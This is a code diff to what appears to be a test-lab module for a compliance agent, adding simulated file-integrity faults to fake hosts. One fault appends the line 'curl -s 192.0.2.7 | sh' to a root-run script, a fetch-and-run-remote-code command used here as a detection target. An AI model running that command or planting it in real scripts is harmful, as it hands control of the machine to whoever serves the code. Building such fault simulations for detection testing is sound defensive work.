@@ -1,4 +1,4 @@
-"""Synthetic drift of who may get in: logins over SSH, accounts, sessions, services, ports, transmission, audit (see drift.py)."""
+"""Synthetic drift of who may get in: logins over SSH, accounts, sessions, services, ports, TLS, audit, files (see drift.py)."""
 
 from __future__ import annotations
 
@@ -6,9 +6,10 @@ from datetime import timedelta
 
 from compliance_agent.lab.fault import register
 from compliance_agent.lab.host import FakeHost
-from compliance_agent.lab.programs import accounts, auditd, sessions, sockets, sshd, tls
+from compliance_agent.lab.programs import accounts, apt, auditd, sessions, sockets, sshd, tls
 
 CRON = "cron.service"
+SCRIPT = "/usr/local/sbin/clinic-sync"
 
 
 # -- ssh_access
@@ -199,3 +200,21 @@ def _audit_rule_removed(host: FakeHost) -> None:
 @register("auditd", "records_lost", "person", "the kernel lost records while the daemon was too slow")
 def _audit_records_lost(host: FakeHost) -> None:
     host.part(auditd.Kernel).lost = host.rng.randint(1, 5000)
+
+
+# -- file_integrity
+
+
+@register("file_integrity", "file_changed", "person", "a program that root runs was changed by one line")
+def _program_changed(host: FakeHost) -> None:
+    host.append(SCRIPT, "curl -s 192.0.2.7 | sh\n")
+
+
+@register("file_integrity", "file_unlisted", "person", "somebody left a program of their own beside those of root")
+def _program_left(host: FakeHost) -> None:
+    host.put(f"/usr/local/sbin/try{host.rng.randint(1, 99)}", "#!/bin/sh\n", mode=0o755)
+
+
+@register("file_integrity", "package_file_changed", "person", "a program of a package was overwritten")
+def _package_file_changed(host: FakeHost) -> None:
+    host.part(apt.Packages).altered.append("??5??????   /usr/bin/ssh")
